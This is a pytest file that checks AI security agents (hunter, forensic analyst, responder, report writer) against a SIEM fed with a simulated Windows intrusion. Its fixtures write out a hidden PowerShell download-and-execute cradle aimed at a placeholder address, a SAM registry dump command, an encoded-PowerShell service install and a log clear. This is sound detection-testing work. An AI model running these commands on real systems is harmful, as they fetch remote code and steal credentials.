"""Hunter, forensic analyst, responder and writer on a real siem: an intrusion over some hosts, in Windows' own words.

Each test takes hosts and accounts of its own, so that none sees what another sent.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

import pytest
import pytest_asyncio

from services.agents.roster.forensic_analyst.agent import ForensicAnalyst
from services.agents.roster.incident_responder.agent import IncidentResponder
from services.agents.roster.report_writer.agent import ReportWriter
from services.agents.roster.threat_hunter.agent import ThreatHunter
from services.agents.toolkit.sources import Sources
from services.agents.toolkit.work import Work
from shared.client import Client
from shared.clock import new_id
from shared.content import content_address
from shared.contracts.agents import AnalyzeThreat, Assessment
from shared.contracts.alerts import CREATE_ALERT, Alert, AlertCreate, AlertEvidence
from shared.contracts.claims import Finding, Prior
from shared.contracts.common import Observable
from shared.contracts.logs import log_term
from shared.contracts.pivots import HuntRequest
from shared.contracts.reports import ReportedAlert, ReportedStep, ReportRequest
from shared.contracts.responses import ResponseRequest
from shared.contracts.timelines import TimelineRequest
from shared.errors import VALIDATION, AuroraError
from tests import stack
from tests.siem import Siem, siem
from tests.stack import Servers
from tests.unit.agents.agent_kit import Told, context

SYSMON = "Microsoft-Windows-Sysmon/Operational"
_NUMBERS = count(1)
CRADLE = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://{address}/{mark}')"


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def service(servers: Servers) -> AsyncIterator[Siem]:
    """One siem for the tests of this file."""
    with stack.data_folder() as folder:
        async with siem(servers, folder) as running:
            yield running


@pytest_asyncio.fixture
async def api(service: Siem) -> AsyncIterator[Client]:
    async with service.client() as client:
        yield client


@dataclass
class Estate:
    """Hosts of one test, and what happens on them from an hour ago on."""

    service: Siem
    mark: str
    start: datetime
    #: Of no other test's estate: what several hosts share is what a hunter looks for.
    number: int

    @property
    def user(self) -> str:
        return f"anna-{self.mark}"

    @property
    def command(self) -> str:
        return CRADLE.format(address=self.address, mark=self.mark)

    @property
    def address(self) -> str:
        return f"192.0.2.{self.number}"

    def host(self, number: int) -> str:
        return f"ws{number}-{self.mark}"

    async def happens(self, number: int, minute: float, channel: str, code: int, **data: Any) -> None:
        when = self.start + timedelta(minutes=minute)
        event = {"EventID": code, "Channel": channel, "Hostname": self.host(number), "@timestamp": when.isoformat()}
        status, receipt, _ = await self.service.ingest(event | data, query={"source": f"test-{self.mark}"})
        assert status == 202, receipt

    async def runs(self, number: int, minute: float, command: str, user: str | None = None) -> None:
        """A process starts."""
        account = f"CORP\\{user or self.user}"
        data = {"Image": r"C:\Windows\System32\cmd.exe", "CommandLine": command, "User": account}
        guid = f"{{{new_id()}}}"
        await self.happens(number, minute, SYSMON, 1, ProcessGuid=guid, ProcessId=4242, **data)

    async def is_large(self) -> None:
        """Ten more hosts send logs: of a small estate two or three hosts are most, and what most have tells nothing."""
        for number in range(4, 14):
            await self.runs(number, 1, "ipconfig /all")

    async def logs_on(self, number: int, minute: float, user: str | None = None) -> None:
        data = {"TargetUserName": user or self.user, "LogonType": 3, "IpAddress": f"10.1.2.{self.number}"}
        await self.happens(number, minute, "Security", 4624, Keywords="0x8020000000000000", **data)

    async def clears_the_log(self, number: int, minute: float) -> None:
        await self.happens(number, minute, "Security", 1102, SubjectUserName=self.user)

    async def installs_a_service(self, number: int, minute: float) -> None:
        image = r"%COMSPEC% /C powershell -enc aQBkAA=="
        await self.happens(number, minute, "System", 7045, ServiceName=f"svc{self.mark}", ImagePath=image)

    async def alert(self, api: Client, q: str, rule_id: str | None = None, number: int = 1) -> Alert:
        """An alert on the events that a search finds."""
        events = await self.service.search(f"{log_term('host.name', self.host(number))} {q}")
        assert events
        evidence = [
            AlertEvidence(log_id=event.id, timestamp=event.timestamp, message=event.message) for event in events
        ]
        entities = {"host": self.host(number), "user": self.user}
        created = AlertCreate(
            title="A cradle", severity="medium", evidence=evidence, entities=entities, rule_id=rule_id
        )
        alert = await api.call(CREATE_ALERT, body=created)
        # An alert by API is seen when it is made; its story is an hour old.
        assert alert.first_seen
        return alert


@pytest.fixture
def estate(service: Siem) -> Estate:
    mark = new_id().replace("-", "")[-10:]
    return Estate(service, mark, datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=10), next(_NUMBERS))


def at_work(agent: str, api: Client) -> Work:
    return Work(agent, context(tool_calls=60), Sources(api), Told().publish)


async def hunted(api: Client, alert: Alert, prior: list[Prior] | None = None) -> Assessment:
    work = at_work("threat_hunter", api)
    return await ThreatHunter().analyze(AnalyzeThreat(alert_id=alert.id, prior=prior or []), work)


async def test_a_timeline_tells_the_story_in_order_and_every_entry_cites_what_carries_it(
    estate: Estate, api: Client
) -> None:
    await estate.runs(1, 0, estate.command)
    await estate.installs_a_service(1, 2)
    await estate.runs(1, 3, "reg save HKLM\\SAM C:\\sam.hiv")
    await estate.runs(1, 4, "ipconfig /all")
    await estate.runs(1, 5, "ipconfig /all")
    await estate.clears_the_log(1, 6)
    request = TimelineRequest(hosts=[estate.host(1)], since=estate.start, until=estate.start + timedelta(minutes=9))
    timeline = await ForensicAnalyst().build_timeline(request, at_work("forensic_analyst", api))
    assert [entry.phase for entry in timeline.entries if entry.weight >= 0.4] == [
        "command-and-control",
        "persistence",
        "credential-access",
        "defense-evasion",
    ]
    assert [entry.timestamp for entry in timeline.entries] == sorted(entry.timestamp for entry in timeline.entries)
    [repeated] = [entry for entry in timeline.entries if "ipconfig" in entry.text]
    assert (repeated.count, len(repeated.log_ids)) == (2, 2)
    assert timeline.complete
    carried = {citation.id: citation for citation in timeline.citations}
    for entry in timeline.entries:
        assert set(entry.log_ids) <= {i for e in carried[entry.citation].result["entries"] for i in e["log_ids"]}
    for citation in timeline.citations:
        assert citation.id == content_address(citation.tool, citation.arguments, citation.result)


async def test_a_sequence_of_phases_and_a_cleared_log_speak_of_an_attack(estate: Estate, api: Client) -> None:
    await estate.runs(1, 0, estate.command)
    await estate.installs_a_service(1, 2)
    await estate.runs(1, 3, "reg save HKLM\\SAM C:\\sam.hiv")
    await estate.clears_the_log(1, 6)
    alert = await estate.alert(api, "event.code:1 DownloadString")
    work = at_work("forensic_analyst", api)
    assessment = await ForensicAnalyst().analyze(AnalyzeThreat(alert_id=alert.id), work)
    assert assessment.verdict == "malicious"
    claims = " ".join(finding.claim for finding in assessment.findings)
    assert "phases of an intrusion" in claims
    assert "cleared an event log" in claims


async def test_a_quiet_host_has_a_timeline_and_no_verdict(estate: Estate, api: Client) -> None:
    await estate.logs_on(1, 1)
    await estate.runs(1, 2, "notepad.exe C:\\notes.txt")
    alert = await estate.alert(api, "event.code:1")
    work = at_work("forensic_analyst", api)
    assessment = await ForensicAnalyst().analyze(AnalyzeThreat(alert_id=alert.id), work)
    assert (assessment.verdict, assessment.confidence) == ("undetermined", 0.0)
    assert any("sequence" in note for note in assessment.ruled_out)
    [timeline] = [citation for citation in assessment.citations if citation.tool == "timeline"]
    assert {entry["kind"] for entry in timeline.result["entries"]} == {"logon", "process"}


async def test_only_what_an_account_did_is_told_when_it_is_asked_for(estate: Estate, api: Client) -> None:
    await estate.runs(1, 1, "whoami /all", user=f"bob-{estate.mark}")
    await estate.runs(1, 2, "hostname.exe -a")
    request = TimelineRequest(
        hosts=[estate.host(1)],
        users=[f"bob-{estate.mark}"],
        since=estate.start,
        until=estate.start + timedelta(minutes=9),
    )
    timeline = await ForensicAnalyst().build_timeline(request, at_work("forensic_analyst", api))
    assert {entry.actor for entry in timeline.entries} == {f"bob-{estate.mark}"}


async def test_a_timeline_needs_a_host_and_a_time(api: Client) -> None:
    for request in (TimelineRequest(), TimelineRequest(hosts=["ws1"]), TimelineRequest(alert_id="ALRT-2026-999999")):
        with pytest.raises(AuroraError) as refused:
            await ForensicAnalyst().build_timeline(request, at_work("forensic_analyst", api))
        assert refused.value.code is VALIDATION


async def test_the_same_command_on_other_hosts_is_a_spread(estate: Estate, api: Client) -> None:
    for number in (1, 2, 3):
        await estate.runs(number, number, estate.command)
    await estate.is_large()
    alert = await estate.alert(api, "event.code:1")
    alone = await hunted(api, alert)
    told = [finding.claim for finding in alone.findings]
    assert any("2 other hosts" in claim for claim in told), [told, alone.ruled_out, alone.not_checked]
    assert alone.verdict != "benign"
    finding = Finding(agent="triage", claim=f"downloads: {estate.command}", confidence=0.9, citations=["tr_1"])
    prior = Prior(agent="triage", verdict="malicious", severity="high", confidence=0.9, findings=[finding])
    # Quoted as specialists quote: within a finding that is cited.
    assert max(found.confidence for found in (await hunted(api, alert, [prior])).findings) > max(
        found.confidence for found in alone.findings
    )


async def test_a_command_that_other_hosts_ran_before_is_ordinary(estate: Estate, api: Client) -> None:
    await estate.runs(1, 1, estate.command)
    await estate.runs(2, 1, estate.command)
    await estate.runs(2, -300, estate.command)
    await estate.is_large()
    assessment = await hunted(api, await estate.alert(api, "event.code:1"))
    assert not any("turned up" in finding.claim for finding in assessment.findings)
    assert any("7 days before" in note for note in assessment.ruled_out)


async def test_a_logon_elsewhere_followed_by_a_remote_service_is_lateral_movement(estate: Estate, api: Client) -> None:
    await estate.runs(1, 1, estate.command)
    alert = await estate.alert(api, "event.code:1")
    minutes = (alert.first_seen - estate.start).total_seconds() / 60
    await estate.logs_on(2, minutes + 1)
    await estate.installs_a_service(2, minutes + 2)
    assessment = await hunted(api, alert)
    assert assessment.verdict in ("suspicious", "malicious")
    assert any("after a logon" in finding.claim for finding in assessment.findings)
    assert "T1021" in assessment.mitre_techniques


async def test_the_same_rule_on_another_host_is_told(estate: Estate, api: Client) -> None:
    rule = f"rule-{estate.mark}"
    for number in (1, 2):
        await estate.runs(number, 1, "notepad.exe")
    await estate.alert(api, "event.code:1", rule, number=2)
    assessment = await hunted(api, await estate.alert(api, "event.code:1", rule))
    assert any("same rule fired" in finding.claim for finding in assessment.findings)


async def test_what_is_nowhere_else_is_ruled_out_and_gives_no_verdict(estate: Estate, api: Client) -> None:
    await estate.runs(1, 1, estate.command)
    assessment = await hunted(api, await estate.alert(api, "event.code:1"))
    assert (assessment.verdict, assessment.confidence, assessment.findings) == ("undetermined", 0.0, [])
    assert any("on other hosts" in note for note in assessment.ruled_out)


async def test_a_hunt_says_where_values_are_and_which_are_nowhere(estate: Estate, api: Client) -> None:
    for number in (1, 2):
        await estate.runs(number, 1, estate.command)
    asked = [
        Observable("command", estate.command),
        Observable("domain", f"{estate.mark}.example.net"),
        Observable("hash", "zz"),
    ]
    request = HuntRequest(observables=asked, since=estate.start - timedelta(hours=1), until=datetime.now(UTC))
    result = await ThreatHunter().hunt(request, at_work("threat_hunter", api))
    [sighting] = result.sightings
    assert set(sighting.hosts) == {estate.host(1), estate.host(2)}
    assert sighting.citation in {citation.id for citation in result.citations}
    assert result.not_found == [asked[1]]
    assert any("can't be looked for" in note for note in result.not_checked)


async def test_a_plan_is_about_what_the_evidence_shows_and_nothing_else(estate: Estate, api: Client) -> None:
    await estate.runs(1, 1, estate.command)
    await estate.installs_a_service(1, 2)
    await estate.installs_a_service(2, 2)
    alert = await estate.alert(api, "event.code:1")
    request = ResponseRequest(
        alert_id=alert.id,
        verdict="malicious",
        severity="high",
        entities=[Observable("host", estate.host(1)), Observable("host", f"elsewhere-{estate.mark}")],
        iocs=[Observable("ip", estate.address), Observable("ip", "45.33.32.156")],
        mitre_techniques=["T1059.001"],
    )
    plan = await IncidentResponder().plan_response(request, at_work("incident_responder", api))
    about = {(step.action, step.target.value) for step in plan.steps}
    assert ("isolate_host", estate.host(1)) in about
    assert ("disable_account", estate.user) in about
    assert ("end_process", "4242") in about
    assert ("disable_service", f"svc{estate.mark}") in about
    assert ("block_address", estate.address) in about
    assert not {estate.host(2), f"elsewhere-{estate.mark}", "45.33.32.156"} & {value for _, value in about}
    assert any("elsewhere" in reason for reason in plan.not_planned)
    assert any("45.33.32.156" in reason for reason in plan.not_planned)
    read = {citation.id for citation in plan.citations}
    assert all(step.citations and read.issuperset(step.citations) for step in plan.steps)


async def test_a_report_tells_the_timeline_of_the_alerts_host_and_is_the_same_again(
    estate: Estate, api: Client
) -> None:
    await estate.runs(1, 1, estate.command)
    await estate.clears_the_log(1, 2)
    alert = await estate.alert(api, "event.code:1")
    request = ReportRequest(
        investigation_id=new_id(),
        alert_ids=[alert.id],
        verdict="malicious",
        severity="high",
        confidence=0.9,
        alerts=[
            ReportedAlert(
                id=alert.id,
                title=alert.title,
                severity=alert.severity,
                entities=alert.entities,
                count=alert.count,
                first_seen=alert.first_seen,
                last_seen=alert.last_seen,
            )
        ],
        steps=[ReportedStep(id=new_id(), agent="triage", method="analyze_threat", status="completed")],
    )
    report, again = [await ReportWriter().write_report(request, at_work("report_writer", api)) for _ in range(2)]
    told = {section.title: [item.text for item in section.sentences] for section in report.sections}
    assert any("DownloadString" in text for text in told["What happened"])
    assert any("cleared" in text for text in told["What happened"])
    assert any(estate.host(1) in text for text in told["Affected assets"])
    assert {citation.tool for citation in report.citations} == {"get_alert", "timeline"}
    assert (report.markdown, report.sections) == (again.markdown, again.sections)
